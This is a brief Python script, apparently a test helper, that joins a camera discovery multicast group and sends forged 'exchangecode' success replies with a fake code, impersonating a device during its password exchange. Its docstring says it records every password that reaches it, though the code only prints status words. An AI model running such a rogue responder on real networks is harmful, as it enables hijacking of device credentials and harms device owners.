"""A stranger at an address of its own who answers the exchange of any password before the device does, and writes
down every password that reaches it."""

import re
import socket
import sys

GROUP, PORT, address = "239.255.255.250", 37020, sys.argv[1]
ears = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
ears.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ears.bind((GROUP, PORT))
ears.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(address))
mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mouth.bind((address, 0))
print("ready", flush=True)
while True:
    data, asker = ears.recvfrom(65536)
    text = data.decode(errors="replace")
    if "<Types>ezvizUnbind</Types>" in text:
        print("password", flush=True)
    if "<Types>exchangecode</Types>" in text:
        uuid = re.search("<Uuid>(.*?)</Uuid>", text).group(1)
        mac = re.search("<MAC>(.*?)</MAC>", text).group(1)
        mouth.sendto(
            f"<ProbeMatch><Uuid>{uuid}</Uuid><MAC>{mac}</MAC><Types>exchangecode</Types><Result>success</Result>"
            f"<Code>{'A' * 172}</Code></ProbeMatch>".encode(), asker)
        print("answered", flush=True)
